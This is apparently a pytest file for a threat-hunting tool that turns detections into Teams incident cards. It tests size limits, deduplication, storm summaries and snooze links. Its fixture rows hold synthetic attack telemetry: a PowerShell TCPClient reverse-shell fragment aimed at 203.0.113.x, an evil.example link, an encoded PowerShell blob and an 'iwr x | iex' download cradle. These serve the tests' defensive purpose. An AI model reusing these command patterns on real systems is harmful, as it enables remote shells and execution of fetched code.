"""Incident cards stay within 28,000 bytes and version 1.4 however large; the storm guard."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path

import pytest

from devtools.webhook import WebhookReceiver
from shared.cards import MAX_PAYLOAD_BYTES, card_of, payload_size, summarize_digest
from shared.cards.incident import incident_payload, update_payload
from shared.hunt import Hunt
from shared.incidents import Evidence, IncidentStore, correlate, process_run
from shared.incidents.model import HuntRef, Incident
from shared.incidents.pipeline import IncidentSettings
from shared.ledger import Finding
from shared.notify.teams import TeamsNotifier
from shared.settings import load_settings
from shared.storage import Storage
from shared.suppress.wiring import snooze_url

START = datetime(2026, 11, 27, 9, tzinfo=UTC)
DEVICE = "4d645fa6d13c513a42f8eda197b1165f0971b7c4"


def huge_evidence(count: int) -> list[Evidence]:
    evidence = []
    for index in range(count):
        hunt = index % 30
        moment = START + timedelta(seconds=index)
        row = {"DeviceId": DEVICE, "DeviceName": "ws-fin-014.corp.contoso.com",
               "ReportId": index, "Timestamp": moment.isoformat(), "FileName": "powershell.exe",
               "InitiatingProcessFileName": "cmd.exe", "ProcessId": 1000 + index,
               "ProcessCommandLine": "powershell -enc " + "QQBCAEMA" * 900,
               "DecodedCommand": f"$c = New-Object Net.Sockets.TCPClient('203.0.113.{index % 250}'"
                                 f",443); <at>x</at> [t](https://evil.example/{index}) " * 40,
               "RemoteIP": f"203.0.113.{index % 250}", "RemotePort": 443,
               "Signals": " ".join(f"signal-{n}" for n in range(hunt, hunt + 30)),
               "AccountName": "alice.moreau", "AccountDomain": "contoso"}
        evidence.append(Evidence(f"hunt-{hunt:02d}", f"Hunt number {hunt} " + "x" * 150,
                                 "High" if hunt % 2 else "Medium",
                                 tuple(f"T{1000 + n}.{n:03d}" for n in range(hunt, hunt + 5)),
                                 False, row, moment, f"key-{index}"))
    return evidence


def incident_for(evidence: list[Evidence]) -> Incident:
    return Incident(id="HW-20261127-4D64-01", scope=f"device:{DEVICE}", partition="p",
                    device="ws-fin-014.corp.contoso.com", device_id=DEVICE,
                    first_event=evidence[0].event_time, last_event=evidence[-1].event_time,
                    updated_at=START,
                    hunts={e.hunt_id: HuntRef(e.hunt_id, e.hunt_name, e.severity)
                           for e in evidence})


def test_a_huge_incident_fits_28_kb_and_card_1_4() -> None:
    evidence = huge_evidence(3000)
    groups = correlate(evidence)
    assert len(groups) == 1
    incident = incident_for(evidence)
    for payload in (incident_payload(incident, evidence), update_payload(incident, evidence)):
        assert payload_size(payload) <= MAX_PAYLOAD_BYTES
        card = card_of(payload)
        assert card["version"] == "1.4"
        text = str(card)
        assert "HW-20261127-4D64-01" in text
        assert "https://evil" not in text  # telemetry URLs are defanged
        assert "<at>" not in text
    assert "more of 3,000 events" in str(card_of(incident_payload(incident, evidence)))


def test_the_same_event_found_by_three_hunts_is_shown_once() -> None:
    row = {"DeviceId": DEVICE, "DeviceName": "ws-fin-014", "ReportId": 7,
           "FileName": "powershell.exe", "InitiatingProcessFileName": "cmd.exe",
           "ProcessId": 42, "ProcessCommandLine": "powershell -c one-unique-command"}
    evidence = [Evidence(f"h{n}", f"Hunt {n}", "High", ("T1059.001",), False, row, START,
                         f"k{n}") for n in range(3)]
    payload = incident_payload(incident_for(evidence), evidence)
    assert str(card_of(payload)).count("one-unique-command") == 1
    assert "Hunt 0, Hunt 1, Hunt 2" in str(card_of(payload))


@pytest.fixture
def hook() -> Iterator[WebhookReceiver]:
    with WebhookReceiver() as receiver:
        yield receiver


def test_storm_guard_posts_one_summary_for_more_than_the_limit(
        storage_connection_string: str, hook: WebhookReceiver) -> None:
    hunt = Hunt(id="0d3c8b1e-0000-4000-8000-000000000001", name="Shell", query="x",
                source="defender", path=Path("shell.yaml"), severity="Medium")
    findings = []
    for device in range(25):
        device_id = f"{device:040x}"
        row = {"DeviceId": device_id, "DeviceName": f"ws-{device:03d}", "ReportId": device,
               "FileName": "powershell.exe", "ProcessId": 4000 + device}
        findings.append(Finding(hunt.id, f"k{device}", row, START, START, 1))
    store = IncidentStore(Storage.from_connection_string(storage_connection_string),
                          table="incStorm")
    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
        outcome = process_run({hunt.id: findings}, [hunt], store, webhook, START,
                              IncidentSettings(storm_limit=10))
    assert len(outcome.opened) == 25
    assert len(hook.payloads) == 1
    assert len(hook.payloads) <= 10 + 1
    summary = str(card_of(hook.payloads[0]))
    assert "25 incidents opened" in summary
    assert all(incident_id in summary for incident_id in outcome.opened)
    assert payload_size(hook.payloads[0]) <= MAX_PAYLOAD_BYTES
    assert sum(len(k) for k in outcome.delivered.values()) == 25


def test_incident_card_footer_counts_suppressed_rows_and_offers_a_snooze_link(
        storage_connection_string: str, hook: WebhookReceiver) -> None:
    hunt = Hunt(id="0d3c8b1e-0000-4000-8000-000000000002", name="Cradle", query="x",
                source="defender", path=Path("cradle.yaml"), severity="High")
    other = Hunt(id="0d3c8b1e-0000-4000-8000-000000000003", name="Quiet", query="x",
                 source="defender", path=Path("quiet.yaml"), severity="Low")
    row = {"DeviceId": DEVICE, "DeviceName": "ws-fin-014", "ReportId": 1,
           "FileName": "powershell.exe", "ProcessCommandLine": "powershell iwr x | iex"}
    settings = load_settings({"HUNTWIRE_STORAGE": "UseDevelopmentStorage=true",
                              "HUNTWIRE_SNOOZE_KEY": "k" * 40,
                              "HUNTWIRE_PUBLIC_URL": "https://huntwire.example/"})
    store = IncidentStore(Storage.from_connection_string(storage_connection_string),
                          table="incSnooze")
    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
        process_run({hunt.id: [Finding(hunt.id, "k1", row, START, START, 1)]}, [hunt, other],
                    store, webhook, START, suppressed={hunt.id: {"vendor-agent": 2},
                                                       other.id: {"not-involved": 5}},
                    snooze=partial(snooze_url, settings))
        process_run({hunt.id: [Finding(hunt.id, "k2", {**row, "DeviceId": "e" * 40}, START,
                                       START, 1)]}, [hunt], store, webhook, START,
                    snooze=partial(snooze_url, None))  # snoozing not set up: no link
    first, second = (card_of(p) for p in hook.payloads)
    assert "2 rows by vendor-agent" in str(first["body"])
    assert "not-involved" not in str(first)  # only the hunts of the incident
    (snooze,) = [a for a in first["actions"] if a["title"].startswith("Snooze 7 days: Cradle")]
    assert "ws-fin-014" in snooze["title"]  # the label names what it silences
    assert snooze["type"] == "Action.OpenUrl"
    assert snooze["url"].startswith("https://huntwire.example/api/snooze?t=")
    assert not any("Snooze" in a["title"] for a in second.get("actions", []))
    assert "Suppressed" not in str(second["body"])


def test_preview_card_renders_an_incident_card(tmp_path: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "shared", "preview-card", "--incident",
                           "--no-png", "--out", str(tmp_path), "--format", "json"],
                          cwd=Path(__file__).resolve().parents[1], capture_output=True,
                          text=True, check=False)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    payload = json.loads((tmp_path / "card.json").read_text(encoding="utf-8"))
    summary = summarize_digest(payload)
    assert summary.kind == "incident"
    assert summary.incident_id is not None
    assert summary.incident_id.startswith("HW-")
    assert summary.total_new == report["findings"] >= 1
    assert card_of(payload)["version"] == "1.4"
    assert report["payload_bytes"] <= MAX_PAYLOAD_BYTES
